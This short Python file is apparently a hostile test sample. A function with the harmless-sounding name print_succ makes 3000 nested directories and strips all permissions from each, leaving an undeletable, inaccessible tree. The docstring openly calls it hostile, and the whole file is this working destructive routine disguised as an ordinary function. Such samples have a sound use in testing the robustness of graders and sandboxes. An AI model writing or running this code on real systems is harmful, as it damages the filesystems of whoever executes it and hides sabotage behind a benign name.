"""Hostile: leaves folders nested so deep that no path reaches the last, and none may be entered."""

import os


def print_succ(state):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    for _ in range(3000):
        os.chdir("..")
        os.chmod("d", 0)
